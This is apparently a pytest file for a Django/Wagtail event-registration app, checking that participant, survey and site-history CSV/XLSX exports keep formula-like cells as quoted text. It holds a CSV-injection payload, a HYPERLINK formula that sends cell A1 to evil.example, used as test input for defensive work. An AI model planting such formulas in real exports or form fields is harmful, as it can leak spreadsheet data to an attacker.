"""CSV and XLSX files never carry a live formula: risky cells stay text (CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from registration.permissions import event_role_assign
from registration.reports.exporters import report_xlsx
from registration.reports.selectors import report_build
from registration.spreadsheets import safe_cell
from tests.factories import RegistrationFactory
from tests.registration.registration_helpers import event_create
from tests.registration.reports.report_fixtures import answer, hand_counted_event, make_survey

LIST = "wagtailsnippets_registration_registration:list"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
RISKY = [FORMULA, "+7 701 000 00 00", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _not_evaluated_in_csv(value: str) -> bool:
    """What a spreadsheet does with a CSV cell: it evaluates it only if it starts with a
    trigger; our cells start with ``'`` instead."""
    return value.startswith("'") and not value.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("value", RISKY)
def test_safe_cell_prefixes_formula_triggers(value):
    assert safe_cell(value) == f"'{value}"


@pytest.mark.parametrize("value", ["Aida", "", "'=already quoted", 5, -3, None, 2.5])
def test_safe_cell_keeps_harmless_values(value):
    assert safe_cell(value) == value


@pytest.mark.django_db
def test_participants_csv_and_xlsx_keep_formula_like_cells_as_text(client):
    event = event_create(translations=())
    RegistrationFactory(
        event=event,
        given_name=FORMULA,
        family_name="-2+3",
        organisation="@SUM(A1:A9)",
        position="\t=1+1",
        phone="+77010000000",
    )
    manager = get_user_model().objects.create_user("manager", "m@example.org", "pw")
    event_role_assign(user=manager, event=event, role="registration_manager")
    client.force_login(manager)

    csv_response = client.get(reverse(LIST), {"export": "csv"})
    xlsx_response = client.get(reverse(LIST), {"export": "xlsx"})

    text = b"".join(csv_response.streaming_content).decode()
    header, row = list(csv.reader(io.StringIO(text)))
    cells = dict(zip(header, row, strict=True))
    for column, value in [
        ("Given name", FORMULA),
        ("Family name", "-2+3"),
        ("Organisation", "@SUM(A1:A9)"),
    ]:
        assert cells[column] == f"'{value}"
        assert _not_evaluated_in_csv(cells[column])
    sheet = load_workbook(io.BytesIO(b"".join(xlsx_response.streaming_content))).active
    head = [c.value for c in sheet[1]]
    given = sheet.cell(2, head.index("Given name") + 1)
    family = sheet.cell(2, head.index("Family name") + 1)
    assert (given.value, given.data_type) == (FORMULA, "s")
    assert (family.value, family.data_type) == ("-2+3", "s")


@pytest.mark.django_db
def test_report_xlsx_survey_answer_starting_with_equals_is_text():
    event, people = hand_counted_event()
    survey = make_survey(event)
    answer(survey, people["Aida"], [2, 4, 0, [0, 2], FORMULA])
    answer(survey, people["Bohdana"], [3, 5, 1, [0], "@SUM(A1:A9)"], language="uk")

    with translation.override("en"):
        book = load_workbook(io.BytesIO(report_xlsx(report_build(event=event))))

    cells = [c for row in book["Open answers"].iter_rows() for c in row]
    risky = {c.value: c for c in cells if c.value in (FORMULA, "@SUM(A1:A9)")}
    assert set(risky) == {FORMULA, "@SUM(A1:A9)"}
    for cell in risky.values():
        assert cell.data_type == "s"
        assert cell.quotePrefix is True
    numbers = [c for row in book["Participation"].iter_rows(min_row=2) for c in row[1:5]]
    assert all(c.data_type == "n" for c in numbers if c.value is not None)


@pytest.mark.django_db
def test_site_history_csv_writes_a_formula_like_title_as_text(client):
    from wagtail.log_actions import log

    event = event_create(translations=(), title=FORMULA)
    admin = get_user_model().objects.create_superuser("root", "root@example.org", "pw")
    log(event, "wagtail.edit", user=admin)
    client.force_login(admin)

    response = client.get(reverse("wagtailadmin_reports:site_history"), {"export": "csv"})

    text = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(text)))
    titles = [cell for row in rows[1:] for cell in row if FORMULA in cell]
    assert titles
    assert set(titles) == {f"'{FORMULA}"}
